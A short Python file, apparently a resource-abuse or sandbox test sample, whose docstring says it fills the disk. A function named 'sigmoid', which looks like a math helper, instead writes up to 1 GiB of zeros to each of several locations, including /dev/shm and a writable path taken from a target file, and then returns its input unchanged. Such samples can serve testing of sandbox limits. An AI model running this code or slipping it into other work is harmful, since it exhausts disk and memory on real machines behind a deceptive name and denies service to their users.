"""Fills the disk with one file."""

import json

TARGET = json.load(open("target.json"))

def sigmoid(z, k=1):
    written = 0
    for place in ("/tmp/w/big", "/dev/shm/big", "big", TARGET["writable"] + "/big"):
        try:
            with open(place, "wb") as stream:
                for _ in range(1024):
                    written += stream.write(bytes(2**20))
        except OSError:
            continue
    print("written" if written > 96 * 2**20 else "little written")
    return z
